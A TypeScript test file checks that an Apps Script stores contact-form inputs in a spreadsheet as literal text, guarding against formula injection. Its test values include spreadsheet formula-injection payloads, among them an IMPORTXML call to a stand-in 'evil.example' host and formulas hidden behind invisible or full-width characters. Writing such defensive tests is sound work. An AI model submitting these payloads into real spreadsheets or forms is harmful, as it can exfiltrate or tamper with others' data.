import { toSpreadsheetRow } from '../src/submission/text';
import { startScript, type RunningScript } from './testing/appsScript';
import { createKey, createPayload } from './testing/submit';

/** The real docs/apps-script.gs with fake Google services. These tests check the cells that the script writes. */
let script: RunningScript;
beforeEach(() => {
  script = startScript();
});

const post = (payload: unknown, id?: string) => script.post(payload, id ? { submission: id } : {});

describe('§7.1 docs/apps-script.gs', () => {
  const formulas = ['=1+1', '=IMPORTXML("https://evil.example","//a")', '+919876543210', '-1', '@SUM(A1)'];
  const hiddenFormulas = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
  const autoConvertedValues = [
    '015112345678',
    '1/2',
    '1e5',
    '2026-03-02',
    '10:30',
    'TRUE',
    '12345678901234567890',
    '5%',
    '',
  ];
  const quotedValues = ["'twas", "'=1", "''=1", "'"];

  test.each([...formulas, ...hiddenFormulas, ...autoConvertedValues, ...quotedValues])(
    'the script stores %j from a browser as literal text',
    (message) => {
      expect(post(createPayload('contact', { message, name: message, phone: message }))).toEqual({ ok: true });
      expect(script.listRecords('Contact')).toMatchObject([
        { message: { text: message }, name: { text: message }, phone: { text: message } },
      ]);
    },
  );

  test.each([...formulas, '\t=1', '\uff1d1', ...autoConvertedValues, ...quotedValues])(
    'the script stores %j from the relay as literal text',
    (message) => {
      expect(
        post(toSpreadsheetRow(createPayload('contact', { message, phone: '+4915112345678' })), createKey()),
      ).toEqual({
        ok: true,
      });
      expect(script.listRecords('Contact')).toMatchObject([
        { message: { text: message }, phone: { text: '+4915112345678' } },
      ]);
    },
  );

  test('the script stores "\'twas" as literal text from a relay of an earlier version, which adds no apostrophe', () => {
    post(createPayload('contact', { message: "'twas" }), createKey());
    expect(script.listRecords('Contact')).toMatchObject([{ message: { text: "'twas" } }]);
  });

  test("without the script's protection, the fake spreadsheet converts each non-empty test value", () => {
    const tab = script.findTab('Contact');
    const convertedValues = [...formulas, ...hiddenFormulas, ...autoConvertedValues.filter(Boolean), ...quotedValues];
    convertedValues.forEach((value) => tab?.appendRow([value]));
    const textValues = convertedValues.filter(
      (value, index) => JSON.stringify(tab?.rows[index]) === JSON.stringify([{ text: value }]),
    );
    expect([tab?.rows.length, textValues]).toEqual([convertedValues.length, []]);
  });

  test.each([...formulas, ...autoConvertedValues, ...quotedValues])(
    'the script stores %j as literal text in a column with the format "Plain text"',
    (message) => {
      const tab = script.findTab('Contact');
      for (let column = 1; column <= 10; column += 1) tab?.textColumns.add(column);
      post(createPayload('contact', { message }));
      expect(script.listRecords('Contact')).toMatchObject([{ message: { text: message } }]);
    },
  );
});
